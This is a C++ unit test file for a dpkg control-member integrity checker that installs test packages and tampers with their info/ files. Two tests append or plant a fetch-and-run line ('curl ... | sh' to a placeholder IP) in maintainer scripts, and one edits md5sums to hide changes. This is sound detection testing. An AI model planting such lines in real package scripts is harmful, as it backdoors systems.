// Unit tests of the control member check: real packages built with dpkg-deb, installed into a
// temporary root's dpkg database as dpkg keeps their members in info/, then tampered with.
#include "../support/fixtures.hpp"
#include "../support/support.hpp"
#include "../support/system_root.hpp"

#include <libpkgdesc/dpkg/database.hpp>
#include <libpkgdesc/error.hpp>
#include <libpkgdesc/format/pkgdesc_writer.hpp>
#include <libpkgdesc/fs/root_accounts.hpp>
#include <libpkgdesc/fs/root_dir.hpp>
#include <libpkgdesc/generate/generator.hpp>
#include <libpkgdesc/util/sha256.hpp>
#include <libpkgdesc/verify/control_check.hpp>
#include <libpkgdesc/verify/reference_set.hpp>

#include <cppunit/extensions/HelperMacros.h>

#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <map>
#include <thread>

using namespace pkgdesc;
using namespace pkgdesc::test;

namespace {

const std::string k_info = "/var/lib/dpkg/info";
const std::string k_postinst = "#!/bin/sh\nset -e\necho configured\n";
const std::string k_prerm = "#!/bin/sh\nset -e\necho removing\n";
const std::string k_postrm = "#!/bin/sh\nset -e\necho removed\n";

void must_sh(const std::string& script) {
    const RunResult r = sh(script);
    if (r.status != 0) {
        throw std::runtime_error("'" + script + "' failed: " + r.err);
    }
}

struct PackageSpec {
    std::string name = "hello";
    std::string arch = "amd64";
    std::string extra_control;
    // DEBIAN/NAME -> content; scripts are made executable.
    std::map<std::string, std::string> members;
    // Shell lines run in the tree after the members are written (under fakeroot).
    std::string setup;
};

// "hello": a program, a conffile, md5sums, a postinst, a prerm, triggers, shlibs, and a member
// with a dot in its name (which dpkg does not keep).
PackageSpec hello_spec() {
    PackageSpec spec;
    spec.members = {{"postinst", k_postinst},
                    {"prerm", k_prerm},
                    {"conffiles", "/etc/hello.conf\n"},
                    {"triggers", "interest-noawait /usr/share/hello\n"},
                    {"shlibs", "libhello 1 libhello1 (>= 1.0)\n"},
                    {"notes.txt", "not kept\n"}};
    spec.setup = "find etc usr -type f | sort | xargs md5sum > DEBIAN/md5sums\n";
    return spec;
}

std::string build_package(const TempDir& tmp, const PackageSpec& spec) {
    const std::string dir = tmp / ("src-" + spec.name);
    write_control(dir, spec.name, "1.0", spec.arch);
    if (!spec.extra_control.empty()) {
        write_file(dir + "/DEBIAN/control", read_file(dir + "/DEBIAN/control") + spec.extra_control);
    }
    for (const auto& [name, content] : spec.members) {
        write_file(dir + "/DEBIAN/" + name, content, is_maintainer_script(name) ? 0755 : 0644);
    }
    const std::string deb = tmp / (spec.name + "_1.0_" + spec.arch + ".deb");
    build_deb(dir, deb, "xz",
              "mkdir -p etc usr/bin usr/share/" + spec.name + "\nprintf 'greeting=hi\\n' > etc/" +
                  spec.name + ".conf\nprintf '#!/bin/sh\\n' > usr/bin/" + spec.name +
                  "\nchmod 0755 usr/bin/" + spec.name + "\n" + spec.setup);
    return deb;
}

// An installed system with its database, accounts and references.
struct System {
    TempDir tmp;
    SystemRoot root{tmp / "root"};
    std::map<std::string, Pkgdesc> references;

    std::string install(const PackageSpec& spec, const InstallOptions& options = {}) {
        const std::string deb = build_package(tmp, spec);
        root.install(deb, options);
        references[spec.name] = describe_deb(deb).desc;
        return deb;
    }

    std::string info(const std::string& file) const { return root / (k_info + "/" + file); }
    std::string q(const std::string& file) const { return shell_quote(info(file)); }

    ControlCheck check(const std::string& package) const {
        const RootDir dir = RootDir::open(root.dir());
        const RootDir admindir = RootDir::open_inside(dir, "/var/lib/dpkg");
        const DpkgDatabase db = DpkgDatabase::load(admindir);
        const RootAccounts accounts = RootAccounts::load(dir);
        const InfoDir infodir = InfoDir::open(admindir, k_info);
        for (const InstalledPackage& pkg : db.packages()) {
            if (pkg.name == package) {
                return check_control_members(infodir, accounts, pkg, references.at(package));
            }
        }
        throw std::runtime_error("not installed: " + package);
    }
};

// path -> "status failed,attributes" of every finding.
std::map<std::string, std::string> summary(const ControlCheck& result) {
    std::map<std::string, std::string> out;
    for (const Finding& finding : result.findings) {
        std::string text(status_name(finding.status));
        std::string failed;
        for (const FailedAttribute& attribute : finding.failed) {
            failed += (failed.empty() ? " " : ",") + attribute.name;
        }
        out[finding.path] = text + failed;
    }
    return out;
}

std::string describe(const std::map<std::string, std::string>& findings) {
    std::string text;
    for (const auto& [path, what] : findings) {
        text += path + ": " + what + "\n";
    }
    return text;
}

void assert_findings(const std::map<std::string, std::string>& expected,
                     const ControlCheck& result) {
    const auto actual = summary(result);
    CPPUNIT_ASSERT_EQUAL_MESSAGE("expected:\n" + describe(expected) + "actual:\n" + describe(actual),
                                 describe(expected), describe(actual));
}

const Finding& finding_for(const ControlCheck& result, const std::string& path) {
    for (const Finding& finding : result.findings) {
        if (finding.path == path) {
            return finding;
        }
    }
    throw std::runtime_error("no finding for " + path);
}

// hello's kept members, all pristine, with one entry replaced.
std::map<std::string, std::string> hello_pristine(
    const std::map<std::string, std::string>& changes = {}) {
    std::map<std::string, std::string> out;
    for (const char* member : {"conffiles", "md5sums", "postinst", "prerm", "shlibs", "triggers"}) {
        out[k_info + "/hello." + member] = "pristine";
    }
    for (const auto& [path, what] : changes) {
        if (what.empty()) {
            out.erase(path);
        } else {
            out[path] = what;
        }
    }
    return out;
}

class ControlCheckTest : public CppUnit::TestFixture {
    CPPUNIT_TEST_SUITE(ControlCheckTest);
    CPPUNIT_TEST(testInstallKeepsMembersAsDpkgDoes);
    CPPUNIT_TEST(testPristineMembersAreProven);
    CPPUNIT_TEST(testReferenceFromPkgdescGenProvesMembers);
    CPPUNIT_TEST(testAppendedLineInPostinstIsModifiedWithBothDigests);
    CPPUNIT_TEST(testDeletedPostinstIsMissing);
    CPPUNIT_TEST(testPlantedPostrmIsADeviation);
    CPPUNIT_TEST(testFifoIsNeverOpened);
    CPPUNIT_TEST(testSymlinkIsNeverFollowed);
    CPPUNIT_TEST(testPackageDoesNotClaimMembersOfLongerNames);
    CPPUNIT_TEST(testMultiArchSameUsesQualifiedNames);
    CPPUNIT_TEST(testLegacyLayoutUsesPlainNames);
    CPPUNIT_TEST(testEditedMd5sumsAndConffilesAreModified);
    CPPUNIT_TEST(testDpkgBookkeepingIsNotReported);
    CPPUNIT_TEST(testConfigFilesPackageKeepsOnlyPostrm);
    CPPUNIT_TEST(testHalfInstalledDeviationsAreUnverifiable);
    CPPUNIT_TEST(testWorldWritableScriptIsMetadata);
    CPPUNIT_TEST(testForeignOwnerIsMetadata);
    CPPUNIT_TEST(testOversizedMemberIsNotRead);
    CPPUNIT_TEST(testEmbeddedPkgdescMustBeTheCanonicalText);
    CPPUNIT_TEST(testInfoDirGroupsByLastDot);
    CPPUNIT_TEST(testCorruptFormatIsRefused);
    CPPUNIT_TEST(testInfoSymlinkIsRefused);
    CPPUNIT_TEST(testKeptMemberRules);
    CPPUNIT_TEST_SUITE_END();

public:
    void testInstallKeepsMembersAsDpkgDoes() {
        System sys;
        sys.install(hello_spec());
        std::vector<std::string> names = list_dir(sys.root / k_info);
        std::sort(names.begin(), names.end());
        const std::vector<std::string> expected{
            "format",         "hello.conffiles", "hello.list",    "hello.md5sums",
            "hello.postinst", "hello.prerm",     "hello.shlibs",  "hello.triggers"};
        CPPUNIT_ASSERT(expected == names);
        CPPUNIT_ASSERT_EQUAL(std::string("1\n"), read_file(sys.info("format")));
        CPPUNIT_ASSERT_EQUAL(k_postinst, read_file(sys.info("hello.postinst")));
        struct stat st {};
        CPPUNIT_ASSERT_EQUAL(0, ::stat(sys.info("hello.postinst").c_str(), &st));
        CPPUNIT_ASSERT_EQUAL(0755u, static_cast<unsigned>(st.st_mode & 07777));
        CPPUNIT_ASSERT_EQUAL(0, ::stat(sys.info("hello.md5sums").c_str(), &st));
        CPPUNIT_ASSERT_EQUAL(0644u, static_cast<unsigned>(st.st_mode & 07777));
        // As unpacked from control.tar: the build's clamped mtime, not the time of installation.
        CPPUNIT_ASSERT_EQUAL(static_cast<time_t>(1000), st.st_mtim.tv_sec);
    }

    void testPristineMembersAreProven() {
        System sys;
        sys.install(hello_spec());
        const ControlCheck result = sys.check("hello");
        assert_findings(hello_pristine(), result);
        const Finding& postinst = finding_for(result, k_info + "/hello.postinst");
        CPPUNIT_ASSERT(postinst.control);
        CPPUNIT_ASSERT(!postinst.conffile);
        CPPUNIT_ASSERT_EQUAL(std::string("hello"), postinst.package);
        CPPUNIT_ASSERT_EQUAL(static_cast<std::uint64_t>(k_postinst.size()), postinst.bytes_read);
        const std::vector<std::string> proven{"conffiles", "md5sums", "postinst",
                                              "prerm",     "shlibs",  "triggers"};
        CPPUNIT_ASSERT(proven == result.proven);
        CPPUNIT_ASSERT(result.is_proven("postinst"));
        CPPUNIT_ASSERT(!result.is_proven("postrm"));
        CPPUNIT_ASSERT(!result.is_proven("control"));
    }

    void testReferenceFromPkgdescGenProvesMembers() {
        System sys;
        const std::string deb = sys.install(hello_spec());
        const std::string ref = sys.tmp / "ref";
        ::mkdir(ref.c_str(), 0755);
        const RunResult r = run({program("PKGDESC_GEN"), "-o", ref, deb});
        CPPUNIT_ASSERT_EQUAL_MESSAGE(r.err, 0, r.status);
        ReferenceSet references;
        references.add_path(ref);
        const Pkgdesc* desc = references.find("hello", "amd64", "1.0");
        CPPUNIT_ASSERT(desc != nullptr);
        sys.references["hello"] = *desc;
        assert_findings(hello_pristine(), sys.check("hello"));
    }

    void testAppendedLineInPostinstIsModifiedWithBothDigests() {
        System sys;
        sys.install(hello_spec());
        const std::string evil = "curl -s http://198.51.100.7/x | sh\n";
        must_sh("printf '%s' " + shell_quote(evil) + " >> " + sys.q("hello.postinst"));
        const ControlCheck result = sys.check("hello");
        assert_findings(hello_pristine({{k_info + "/hello.postinst", "modified sha256"}}), result);
        const Finding& postinst = finding_for(result, k_info + "/hello.postinst");
        CPPUNIT_ASSERT_EQUAL(to_hex(Sha256::digest(k_postinst)), postinst.failed[0].expected);
        CPPUNIT_ASSERT_EQUAL(to_hex(Sha256::digest(k_postinst + evil)), postinst.failed[0].actual);
        CPPUNIT_ASSERT(!result.is_proven("postinst"));
        CPPUNIT_ASSERT(result.is_proven("prerm"));
    }

    void testDeletedPostinstIsMissing() {
        System sys;
        sys.install(hello_spec());
        must_sh("rm " + sys.q("hello.postinst"));
        const ControlCheck result = sys.check("hello");
        assert_findings(hello_pristine({{k_info + "/hello.postinst", "missing"}}), result);
        CPPUNIT_ASSERT(!result.is_proven("postinst"));
    }

    void testPlantedPostrmIsADeviation() {
        System sys;
        sys.install(hello_spec());
        write_file(sys.info("hello.postrm"), "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n",
                   0755);
        const ControlCheck result = sys.check("hello");
        assert_findings(hello_pristine({{k_info + "/hello.postrm", "modified type"}}), result);
        const Finding& postrm = finding_for(result, k_info + "/hello.postrm");
        CPPUNIT_ASSERT_EQUAL(std::string("absent"), postrm.failed[0].expected);
        CPPUNIT_ASSERT_EQUAL(std::string("file"), postrm.failed[0].actual);
        CPPUNIT_ASSERT_EQUAL(std::string("not a control member of the package"), postrm.reason);
        CPPUNIT_ASSERT(postrm.control);
        CPPUNIT_ASSERT(!result.is_proven("postrm"));
    }

    void testFifoIsNeverOpened() {
        System sys;
        sys.install(hello_spec());
        const std::string fifo = sys.info("hello.prerm");
        const std::string planted = sys.info("hello.postrm");
        const std::string marker = sys.tmp / "writer-done";
        must_sh("rm " + shell_quote(fifo) + " && mkfifo " + shell_quote(fifo) + " " +
                shell_quote(planted));
        // A writer blocks in open() until somebody opens the FIFO for reading.
        std::thread writer([&] {
            sh("timeout 5 sh -c 'echo x > " + fifo + " && touch " + marker + "' & "
               "timeout 5 sh -c 'echo x > " + planted + " && touch " + marker + "'; wait");
        });
        const ControlCheck result = sys.check("hello");
        std::this_thread::sleep_for(std::chrono::milliseconds(300));
        const bool opened = exists(marker);
        writer.join();
        CPPUNIT_ASSERT_MESSAGE("a FIFO was opened for reading", !opened);
        assert_findings(hello_pristine({{k_info + "/hello.prerm", "modified type"},
                                        {k_info + "/hello.postrm", "modified type"}}),
                        result);
        const Finding& prerm = finding_for(result, k_info + "/hello.prerm");
        CPPUNIT_ASSERT_EQUAL(std::string("file"), prerm.failed[0].expected);
        CPPUNIT_ASSERT_EQUAL(std::string("fifo"), prerm.failed[0].actual);
        CPPUNIT_ASSERT_EQUAL(std::string("fifo"),
                             finding_for(result, k_info + "/hello.postrm").failed[0].actual);
    }

    void testSymlinkIsNeverFollowed() {
        System sys;
        sys.install(hello_spec());
        // Pointing at an exact copy: still not the file dpkg installed.
        must_sh("cp -p " + sys.q("hello.postinst") + " " + shell_quote(sys.tmp / "copy") +
                " && ln -sf " + shell_quote(sys.tmp / "copy") + " " + sys.q("hello.postinst"));
        const ControlCheck result = sys.check("hello");
        assert_findings(hello_pristine({{k_info + "/hello.postinst", "modified type"}}), result);
        CPPUNIT_ASSERT_EQUAL(std::string("link"),
                             finding_for(result, k_info + "/hello.postinst").failed[0].actual);
    }

    void testPackageDoesNotClaimMembersOfLongerNames() {
        System sys;
        sys.install(hello_spec());
        PackageSpec extra;
        extra.name = "hello-extra";
        extra.members = {{"postrm", k_postrm}, {"templates", "Template: hello/q\nType: note\n"}};
        sys.install(extra);
        // A package "hello.x" (names may have dots) that is not installed.
        write_file(sys.info("hello.x.postinst"), "#!/bin/sh\n", 0755);
        assert_findings(hello_pristine(), sys.check("hello"));
        assert_findings({{k_info + "/hello-extra.postrm", "pristine"},
                         {k_info + "/hello-extra.templates", "pristine"}},
                        sys.check("hello-extra"));
    }

    void testMultiArchSameUsesQualifiedNames() {
        System sys;
        PackageSpec lib;
        lib.name = "libdemo";
        lib.extra_control = "Multi-Arch: same\n";
        lib.members = {{"postinst", k_postinst}, {"symbols", "libdemo.so.1 libdemo #MINVER#\n"}};
        sys.install(lib, {.multi_arch_same = true});
        CPPUNIT_ASSERT(exists(sys.info("libdemo:amd64.postinst")));
        CPPUNIT_ASSERT(!exists(sys.info("libdemo.postinst")));
        // A plain name is another package's (a libdemo that is not Multi-Arch: same).
        write_file(sys.info("libdemo.postrm"), "#!/bin/sh\n", 0755);
        const ControlCheck result = sys.check("libdemo");
        assert_findings({{k_info + "/libdemo:amd64.postinst", "pristine"},
                         {k_info + "/libdemo:amd64.symbols", "pristine"}},
                        result);
        CPPUNIT_ASSERT_EQUAL(std::string("libdemo:amd64"), result.findings[0].package);
    }

    void testLegacyLayoutUsesPlainNames() {
        System sys;
        PackageSpec lib;
        lib.name = "libdemo";
        lib.extra_control = "Multi-Arch: same\n";
        lib.members = {{"postinst", k_postinst}};
        sys.install(lib, {.multi_arch_same = true});
        // Without info/format dpkg reads the legacy layout: plain names only.
        must_sh("cd " + shell_quote(sys.root / k_info) +
                " && rm format && mv libdemo:amd64.postinst libdemo.postinst");
        const ControlCheck result = sys.check("libdemo");
        assert_findings({{k_info + "/libdemo.postinst", "pristine"}}, result);
        CPPUNIT_ASSERT_EQUAL(std::string("libdemo:amd64"), result.findings[0].package);
        const RootDir admindir = RootDir::open(sys.root / "/var/lib/dpkg");
        CPPUNIT_ASSERT(!InfoDir::open(admindir, k_info).multiarch_layout());
    }

    void testEditedMd5sumsAndConffilesAreModified() {
        System sys;
        sys.install(hello_spec());
        // Hiding a changed program from debsums, and a conffile from dpkg's conffile handling.
        must_sh("sed -i '/usr\\/bin\\/hello/d' " + sys.q("hello.md5sums") + " && : > " +
                sys.q("hello.conffiles"));
        const ControlCheck result = sys.check("hello");
        assert_findings(hello_pristine({{k_info + "/hello.md5sums", "modified sha256"},
                                        {k_info + "/hello.conffiles", "modified sha256"}}),
                        result);
        CPPUNIT_ASSERT_EQUAL(to_hex(Sha256::digest("")),
                             finding_for(result, k_info + "/hello.conffiles").failed[0].actual);
        CPPUNIT_ASSERT(!finding_for(result, k_info + "/hello.conffiles").conffile);
    }

    void testDpkgBookkeepingIsNotReported() {
        System sys;
        sys.install(hello_spec());
        // dpkg's file list being rewritten (atomic_file's "-new"), dot files dpkg ignores, and
        // a member whose name has a dot (dpkg never installs those, and never reads them).
        must_sh("cp " + sys.q("hello.list") + " " + sys.q("hello.list-new") + " && touch " +
                sys.q(".hello.postrm") + " " + sys.q("format-new.x"));
        assert_findings(hello_pristine(), sys.check("hello"));
        // "control" is never kept: one found there was not put there by dpkg.
        must_sh("touch " + sys.q("hello.control"));
        const ControlCheck result = sys.check("hello");
        assert_findings(hello_pristine({{k_info + "/hello.control", "modified type"}}), result);
        CPPUNIT_ASSERT_EQUAL(std::string("a control member dpkg does not keep"),
                             finding_for(result, k_info + "/hello.control").reason);
    }

    void testConfigFilesPackageKeepsOnlyPostrm() {
        System sys;
        PackageSpec spec = hello_spec();
        spec.members["postrm"] = k_postrm;
        sys.install(spec, {.state = "config-files"});
        CPPUNIT_ASSERT(!exists(sys.info("hello.postinst")));
        ControlCheck result = sys.check("hello");
        assert_findings({{k_info + "/hello.postrm", "pristine"}}, result);
        CPPUNIT_ASSERT(result.proven == std::vector<std::string>{"postrm"});
        // A prerm left there is not dpkg's doing: dpkg --remove deletes it.
        write_file(sys.info("hello.prerm"), k_prerm, 0755);
        result = sys.check("hello");
        assert_findings({{k_info + "/hello.postrm", "pristine"},
                         {k_info + "/hello.prerm", "modified type"}},
                        result);
        CPPUNIT_ASSERT_EQUAL(std::string("not kept by dpkg for a package in state config-files"),
                             finding_for(result, k_info + "/hello.prerm").reason);
    }

    void testHalfInstalledDeviationsAreUnverifiable() {
        System sys;
        sys.install(hello_spec(), {.state = "half-installed"});
        // What unpacking had not replaced yet: the previous version's members.
        must_sh("echo 'echo old' >> " + sys.q("hello.postinst") + " && rm " + sys.q("hello.prerm") +
                " && touch " + sys.q("hello.postrm"));
        const ControlCheck result = sys.check("hello");
        assert_findings(hello_pristine({{k_info + "/hello.postinst", "unverifiable sha256"},
                                        {k_info + "/hello.prerm", "unverifiable"},
                                        {k_info + "/hello.postrm", "unverifiable type"}}),
                        result);
        CPPUNIT_ASSERT_EQUAL(std::string("the package is half-installed"),
                             finding_for(result, k_info + "/hello.prerm").reason);
        CPPUNIT_ASSERT(result.is_proven("md5sums"));
    }

    void testWorldWritableScriptIsMetadata() {
        System sys;
        sys.install(hello_spec());
        must_sh("chmod o+w " + sys.q("hello.postinst"));
        const ControlCheck result = sys.check("hello");
        assert_findings(hello_pristine({{k_info + "/hello.postinst", "metadata mode"}}), result);
        const Finding& postinst = finding_for(result, k_info + "/hello.postinst");
        CPPUNIT_ASSERT_EQUAL(std::string("0755"), postinst.failed[0].expected);
        CPPUNIT_ASSERT_EQUAL(std::string("0757"), postinst.failed[0].actual);
        CPPUNIT_ASSERT(!result.is_proven("postinst"));
    }

    void testForeignOwnerIsMetadata() {
        if (!running_as_root()) {
            skip("chown needs root");
            return;
        }
        System sys;
        sys.install(hello_spec());
        must_sh("chown 7001:7001 " + sys.q("hello.prerm"));
        const ControlCheck result = sys.check("hello");
        assert_findings(hello_pristine({{k_info + "/hello.prerm", "metadata owner,group"}}),
                        result);
        const Finding& prerm = finding_for(result, k_info + "/hello.prerm");
        CPPUNIT_ASSERT_EQUAL(std::string("root"), prerm.failed[0].expected);
        CPPUNIT_ASSERT_EQUAL(std::string("daemon"), prerm.failed[0].actual);
    }

    void testOversizedMemberIsNotRead() {
        System sys;
        sys.install(hello_spec());
        // Sparse: costs no disk, and would cost minutes to hash.
        must_sh("truncate -s " + std::to_string(k_max_control_member_size + 1) + " " +
                sys.q("hello.shlibs"));
        const ControlCheck result = sys.check("hello");
        assert_findings(hello_pristine({{k_info + "/hello.shlibs", "unverifiable"}}), result);
        const Finding& shlibs = finding_for(result, k_info + "/hello.shlibs");
        CPPUNIT_ASSERT_EQUAL(std::string("larger than 134217728 bytes: not read"), shlibs.reason);
        CPPUNIT_ASSERT_EQUAL(std::uint64_t{0}, shlibs.bytes_read);
    }

    void testEmbeddedPkgdescMustBeTheCanonicalText() {
        System sys;
        // Built the way dh_pkgdesc builds: DEBIAN/pkgdesc written last, from the tree.
        PackageSpec spec = hello_spec();
        spec.setup += shell_quote(program("PKGDESC_GEN")) +
                      " --tree . --root-owner-group --clamp-mtime 1000 --output DEBIAN/pkgdesc\n";
        const std::string deb = sys.install(spec);
        const DebDescription described = describe_deb(deb);
        CPPUNIT_ASSERT(described.embedded_pkgdesc);
        CPPUNIT_ASSERT_EQUAL(to_string(described.desc), *described.embedded_pkgdesc);
        CPPUNIT_ASSERT(exists(sys.info("hello.pkgdesc")));
        ControlCheck result = sys.check("hello");
        assert_findings(hello_pristine({{k_info + "/hello.pkgdesc", "pristine"}}), result);
        CPPUNIT_ASSERT(result.is_proven("pkgdesc"));
        // Same size, other bytes.
        must_sh("sed -i 's/^Version: 1.0$/Version: 1.1/' " + sys.q("hello.pkgdesc"));
        result = sys.check("hello");
        assert_findings(hello_pristine({{k_info + "/hello.pkgdesc", "modified sha256"}}), result);
        CPPUNIT_ASSERT_EQUAL(std::string("not the reference's canonical text"),
                             finding_for(result, k_info + "/hello.pkgdesc").reason);
        // Another size: not even read.
        must_sh("echo >> " + sys.q("hello.pkgdesc"));
        result = sys.check("hello");
        assert_findings(hello_pristine({{k_info + "/hello.pkgdesc", "modified size"}}), result);
        CPPUNIT_ASSERT_EQUAL(std::uint64_t{0},
                             finding_for(result, k_info + "/hello.pkgdesc").bytes_read);
        // A package without one has nothing missing.
        must_sh("rm " + sys.q("hello.pkgdesc"));
        assert_findings(hello_pristine(), sys.check("hello"));
    }

    void testInfoDirGroupsByLastDot() {
        TempDir tmp;
        must_sh("mkdir -p " + shell_quote(tmp / "info") + " && cd " + shell_quote(tmp / "info") +
                " && echo 1 > format && touch foo.postinst foo.list foo-bar.postinst "
                "foo.bar.prerm 'foo:i386.md5sums' foo.templates .foo.config foo && "
                "mkdir foo.config");
        const InfoDir info = InfoDir::open(RootDir::open(tmp.path()), "/x/info/");
        CPPUNIT_ASSERT_EQUAL(std::string("/x/info"), info.shown());
        CPPUNIT_ASSERT(info.complete());
        CPPUNIT_ASSERT(info.multiarch_layout());
        const std::vector<std::string_view> foo{"config", "postinst", "templates"};
        CPPUNIT_ASSERT(foo == info.members("foo"));
        CPPUNIT_ASSERT(std::vector<std::string_view>{"postinst"} == info.members("foo-bar"));
        CPPUNIT_ASSERT(std::vector<std::string_view>{"prerm"} == info.members("foo.bar"));
        CPPUNIT_ASSERT(info.members("fo").empty());
        const std::vector<std::string_view> owners{"foo", "foo-bar", "foo.bar", "foo:i386"};
        CPPUNIT_ASSERT(owners == info.owners());
    }

    void testCorruptFormatIsRefused() {
        TempDir tmp;
        must_sh("mkdir " + shell_quote(tmp / "info") + " && echo garbage > " +
                shell_quote(tmp / "info/format"));
        const RootDir admindir = RootDir::open(tmp.path());
        std::string error;
        try {
            InfoDir::open(admindir, "/var/lib/dpkg/info");
        } catch (const IoError& e) {
            error = e.what();
        }
        CPPUNIT_ASSERT_EQUAL(tmp.path() + "/info/format: corrupt info database format file",
                             error);
        must_sh("echo 2 > " + shell_quote(tmp / "info/format"));
        error.clear();
        try {
            InfoDir::open(admindir, "/var/lib/dpkg/info");
        } catch (const IoError& e) {
            error = e.what();
        }
        CPPUNIT_ASSERT_EQUAL(tmp.path() +
                                 "/info/format: info database format (2) is bogus or too new",
                             error);
    }

    void testInfoSymlinkIsRefused() {
        TempDir tmp;
        must_sh("mkdir " + shell_quote(tmp / "elsewhere") + " && ln -s elsewhere " +
                shell_quote(tmp / "info"));
        CPPUNIT_ASSERT_THROW(InfoDir::open(RootDir::open(tmp.path()), "/var/lib/dpkg/info"),
                             IoError);
    }

    void testKeptMemberRules() {
        CPPUNIT_ASSERT(dpkg_installs_control_member("postinst"));
        CPPUNIT_ASSERT(dpkg_installs_control_member("md5sums"));
        CPPUNIT_ASSERT(dpkg_installs_control_member("pkgdesc"));
        CPPUNIT_ASSERT(dpkg_installs_control_member("list-new"));
        CPPUNIT_ASSERT(!dpkg_installs_control_member("control"));
        CPPUNIT_ASSERT(!dpkg_installs_control_member("list"));
        CPPUNIT_ASSERT(!dpkg_installs_control_member("notes.txt"));
        CPPUNIT_ASSERT(!dpkg_installs_control_member(std::string(101, 'a')));
        CPPUNIT_ASSERT(dpkg_installs_control_member(std::string(100, 'a')));
        CPPUNIT_ASSERT(dpkg_keeps_control_member("postrm", PackageState::config_files));
        CPPUNIT_ASSERT(!dpkg_keeps_control_member("md5sums", PackageState::config_files));
        CPPUNIT_ASSERT(!dpkg_keeps_control_member("postrm", PackageState::not_installed));
        CPPUNIT_ASSERT(dpkg_keeps_control_member("triggers", PackageState::triggers_pending));
        CPPUNIT_ASSERT(is_maintainer_script("config"));
        CPPUNIT_ASSERT(!is_maintainer_script("triggers"));
    }
};

} // namespace

CPPUNIT_TEST_SUITE_NAMED_REGISTRATION(ControlCheckTest, "unit.control_check");
